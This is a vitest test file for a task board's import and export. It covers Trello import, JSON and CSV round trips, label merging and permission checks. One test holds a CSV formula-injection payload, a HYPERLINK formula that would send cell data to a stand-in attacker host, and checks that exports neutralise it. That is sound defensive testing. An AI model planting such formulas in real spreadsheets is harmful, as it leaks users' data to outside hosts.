import { engines, type TestBackend } from '@tandem/local-backend/testing';
import { type BoardExport, csvToPlan, IMPORT_PART_SIZE, trelloFixture } from '@tandem/schemas';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ImportProgress } from '../src/index.js';
import { startBackend } from './support/backend.js';
import { codeOf, createTeam, type Team } from './support/data.js';

/** What must survive a round trip: all but the export's time, numbers and comment times. */
function kept({ exported_at: _at, ...board }: BoardExport) {
  return {
    ...board,
    tasks: board.tasks.map(({ number: _n, ...task }) => ({
      ...task,
      comments: task.comments?.map((comment) => comment.body),
    })),
  };
}

describe.each(engines)('board import and export on %s', (engine) => {
  let backend: TestBackend;
  let team: Team;

  beforeAll(async () => {
    backend = await startBackend(engine);
    team = await createTeam(backend, 'transfer');
  });
  afterAll(() => backend?.stop());

  it('imports a Trello export in parts with progress, and its JSON export back with nothing lost', async () => {
    const { transfer } = team.admin.client;
    const text = JSON.stringify(
      trelloFixture({ cards: IMPORT_PART_SIZE + 100, memberEmails: [team.member.email] }),
    );
    const file = await transfer.read({ name: 'trello.json', text });
    if (file.format === 'csv') throw new Error('read as CSV');
    const preview = await transfer.preview(team.workspaceId, file.plan);
    expect(preview.people.map((p) => [p.person.name, p.proposed?.user_id ?? null])).toEqual([
      ['Jane Roe', null],
      ['Member 1', team.member.id],
    ]);

    const progress: ImportProgress[] = [];
    const report = await transfer.importBoard({
      workspaceId: team.workspaceId,
      board: file.plan.board,
      onProgress: (p) => progress.push(p),
    });
    // Two parts, each reported once created; the last one leads to the reveal.
    expect(progress).toEqual([
      { phase: 'create', done: 0, total: preview.tasks },
      { phase: 'create', done: IMPORT_PART_SIZE, total: preview.tasks },
      { phase: 'reveal', done: preview.tasks, total: preview.tasks },
    ]);
    expect(report).toMatchObject({
      tasks: preview.tasks,
      checklist_items: preview.checklistItems,
      comments: preview.comments,
    });
    expect(report.assigned).toBeGreaterThan(0);
    const tasks = await team.viewer.client.tasks.listBoard(report.board_id);
    expect(tasks).toHaveLength(preview.tasks);

    const exported = await team.viewer.client.transfer.exportJson(report.board_id);
    const again = await transfer.read({ name: 'board.json', text: JSON.stringify(exported) });
    if (again.format === 'csv') throw new Error('read as CSV');
    const second = await transfer.importBoard({
      workspaceId: team.workspaceId,
      board: again.plan.board,
    });
    expect(kept(await transfer.exportJson(second.board_id))).toEqual(kept(exported));
  });

  it('joins labels that differ only in case to the workspace’s own spelling', async () => {
    const { transfer, labels } = team.admin.client;
    await labels.create({ workspaceId: team.workspaceId, name: 'Copy', color: 'blue' });
    const report = await transfer.importBoard({
      workspaceId: team.workspaceId,
      board: {
        board: { name: 'Case labels', description: null },
        states: [{ name: 'To do', category: 'unstarted', color: '#5d5d68' }],
        labels: [
          { name: 'copy', color: 'red' },
          { name: 'Legal', color: 'gray' },
          { name: 'LEGAL', color: 'gray' },
        ],
        tasks: [
          { title: 'One', state: 0, labels: ['copy', 'COPY'] },
          { title: 'Two', state: 0, labels: ['legal'] },
        ],
      },
    });
    expect(report.labels_created).toBe(1);
    const tasks = await team.member.client.tasks.listBoard(report.board_id);
    expect(tasks.map((t) => [t.title, t.labels])).toEqual(
      expect.arrayContaining([
        ['One', ['Copy']],
        ['Two', ['Legal']],
      ]),
    );
    const names = (await labels.list(team.workspaceId)).map((l) => l.name.toLowerCase());
    expect(names.filter((name) => name === 'copy' || name === 'legal')).toEqual(['copy', 'legal']);
  });

  it('exports CSV that imports back through the guessed mapping', async () => {
    const { transfer } = team.admin.client;
    const source = await transfer.importBoard({
      workspaceId: team.workspaceId,
      board: {
        board: { name: 'Sheet', description: null },
        states: [
          { name: 'To do', category: 'unstarted', color: '#5d5d68' },
          { name: 'Doing', category: 'started', color: '#e09b00' },
        ],
        labels: [],
        tasks: [
          { title: 'Comma, "quoted"', state: 1, labels: ['a', 'b'], due_date: '2027-02-03' },
          { title: 'Plain', state: 0, checklist: [{ title: 'one', done: true }] },
        ],
      },
    });
    const csv = await transfer.exportCsv(source.board_id);
    const file = await transfer.read({ name: 'Sheet.csv', text: csv });
    if (file.format !== 'csv' || !file.mapping) throw new Error('not read as CSV');
    const plan = csvToPlan(file.rows, file.mapping, file.name);
    const copy = await transfer.importBoard({ workspaceId: team.workspaceId, board: plan.board });
    const titles = async (boardId: string) =>
      (await transfer.exportJson(boardId)).tasks.map((t) => [t.title, t.labels, t.checklist]);
    expect(await titles(copy.board_id)).toEqual(await titles(source.board_id));
  });

  it('exports formula cells neutralised, and reads them back as they were', async () => {
    const { transfer } = team.admin.client;
    const formulas = [
      '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
      '+1+2',
      '-3',
      '@SUM(A1:A2)',
      "'=quoted already",
    ];
    const ordinary = ['Plain, "quoted"', "It's fine", 'a=b', 'x-y+z @home'];
    const source = await transfer.importBoard({
      workspaceId: team.workspaceId,
      board: {
        board: { name: 'Formulas', description: null },
        states: [{ name: 'To do', category: 'unstarted', color: '#5d5d68' }],
        labels: [],
        tasks: [...formulas, ...ordinary].map((title) => ({ title, state: 0 })),
      },
    });
    const csv = await transfer.exportCsv(source.board_id);
    const cells = Papa.parse<Record<string, string>>(csv, { header: true }).data.map(
      (row) => row.Title,
    );
    expect(cells).toEqual([...formulas.map((title) => `'${title}`), ...ordinary]);
    const file = await transfer.read({ name: 'Formulas.csv', text: csv });
    if (file.format !== 'csv' || !file.mapping) throw new Error('not read as CSV');
    const plan = csvToPlan(file.rows, file.mapping, file.name);
    expect(plan.board.tasks.map((t) => t.title)).toEqual([...formulas, ...ordinary]);
  });

  it('refuses members and unreadable files', async () => {
    const board = {
      board: { name: 'No', description: null },
      states: [{ name: 'To do', category: 'unstarted' as const, color: '#5d5d68' }],
      labels: [],
      tasks: [],
    };
    expect(
      await codeOf(
        team.member.client.transfer.importBoard({ workspaceId: team.workspaceId, board }),
      ),
    ).toBe('data/forbidden');
    expect(await codeOf(team.admin.client.transfer.read({ name: 'x.json', text: '{"a":1}' }))).toBe(
      'import/unreadable',
    );
  });
});
